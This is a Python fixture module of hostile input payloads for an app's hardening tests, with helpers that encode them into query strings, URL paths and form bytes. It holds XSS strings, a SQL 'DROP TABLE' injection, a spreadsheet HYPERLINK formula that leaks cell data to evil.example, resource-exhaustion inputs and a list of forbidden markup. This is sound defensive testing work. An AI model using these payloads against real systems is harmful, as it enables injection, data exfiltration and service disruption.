"""Hostile values every surface of the app is fed in tests/hardening/.

Each payload is a text (what a field, a cell or a JSON string holds) and, where a
query string cannot carry that text as such, the raw query string to send
instead. `query(name, payload)` builds the query string for one parameter.
"""

from dataclasses import dataclass
from urllib.parse import quote

MEGABYTE = 1_000_000


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    # A raw query string with "{name}" for the parameter, when percent-encoding the text is not the point.
    raw_query: str = ""
    # The JSON string literal to send in API bodies, when json.dumps would not produce the attack.
    json_literal: str = ""

    def __str__(self) -> str:
        return self.name


PAYLOADS = [
    Payload("script-tag", "<script>alert(1)</script>"),
    Payload("img-onerror", '"><img src=x onerror=alert(1)>'),
    Payload("javascript-url", "javascript:alert(document.cookie)"),
    Payload("sql-drop", "'; DROP TABLE recommendations_recommendation; --"),
    Payload("sql-or", "1 OR 1=1"),
    Payload("sql-like", "%' OR '1'='1"),
    Payload("rtl-override", "\u202eevil.exe\u202c text"),
    Payload("zero-width", "a\u200bb\ufeffc"),
    Payload("emoji-4-byte", "😀 🏳️‍🌈 𝔘𝔓ℜ"),
    Payload("control-chars", "bell\x07 vtab\x0b esc\x1b[31m"),
    Payload("nul-byte", "before\x00after"),
    Payload("lone-surrogate", "\ud800", json_literal='"\\ud800"'),
    Payload("formula", '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
    Payload("one-megabyte", "x" * MEGABYTE),
    # A megabyte of distinct words: more than a PostgreSQL tsvector holds (1 MB).
    Payload("megabyte-of-words", " ".join(f"w{i:06d}" for i in range(MEGABYTE // 8))),
    Payload("bad-percent-encoding", "%E0%A4%A%%zz%", raw_query="{name}=%E0%A4%A&{name}=%%zz&{name}=%"),
    # Too many parts: more fields than Django accepts in one request (DATA_UPLOAD_MAX_NUMBER_FIELDS =
    # 1,000) in a query string or form, JSON nested 100,000 deep, a path of 5,000 segments.
    Payload(
        "too-many-parts",
        "x",
        raw_query="&".join(["{name}=x"] * 3000),
        json_literal="[" * 100_000 + "]" * 100_000,
    ),
]
XSS = {"script-tag", "img-onerror", "javascript-url"}
# Raw markup that must never reach an HTML page unescaped.
FORBIDDEN_MARKUP = ("<script>alert(1)", "<img src=x onerror", 'href="javascript:', "src=x onerror=alert(1)>")


def query(name: str, payload: Payload) -> str:
    """The query string carrying `payload` as parameter `name` (a lone surrogate as invalid UTF-8)."""
    if payload.raw_query:
        return payload.raw_query.replace("{name}", name)
    return f"{name}={quote(payload.text.encode('utf-8', 'surrogatepass'), safe='')}"


def path_segment(payload: Payload) -> str:
    """The payload as one segment of a URL path (5,000 segments for too-many-parts)."""
    if payload.name == "too-many-parts":
        return "/".join(["x"] * 5000)
    if payload.raw_query:
        return payload.text
    return quote(payload.text.encode("utf-8", "surrogatepass"), safe="")


def form_bytes(payload: Payload) -> bytes:
    """The UTF-8 bytes of the text as a browser would send them (a lone surrogate becomes invalid UTF-8)."""
    return payload.text.encode("utf-8", "surrogatepass")
